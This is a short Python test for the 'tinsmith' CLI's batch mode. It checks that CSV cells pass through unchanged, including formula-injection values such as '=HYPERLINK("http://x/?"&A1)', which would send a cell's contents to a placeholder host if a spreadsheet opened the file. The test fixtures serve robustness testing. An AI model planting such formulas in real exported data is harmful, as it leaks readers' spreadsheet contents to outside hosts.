"""Reading OUT gives the written answers."""

from __future__ import annotations

import csv
from collections.abc import Callable
from pathlib import Path

from tinsmith import cli

CELLS = ['=HYPERLINK("http://x/?"&A1)', "+1", "-1", "@SUM(1)", "\ttab", "'=1", 'a,"b"', "two\nlines", " = "]


def test_a_table_holds_texts_as_they_are(batch: Callable[..., int], tiny_tin: Path, tmp_path: Path) -> None:
    """Also those that a spreadsheet would run: an escape would be data to all other readers, and to replay."""
    with (tmp_path / "in.csv").open("w", newline="") as file:
        csv.writer(file).writerows([["input"], *([cell] for cell in CELLS)])
    assert batch(tmp_path / "in.csv", tmp_path / "out.csv") == 0
    with (tmp_path / "out.csv").open(newline="") as file:
        assert [row["input"] for row in csv.DictReader(file)] == CELLS
    words = ("batch", tiny_tin, tmp_path / "in.csv", tmp_path / "out.csv", "--check", "--workers", "1")
    assert cli.main(list(map(str, words))) == 0
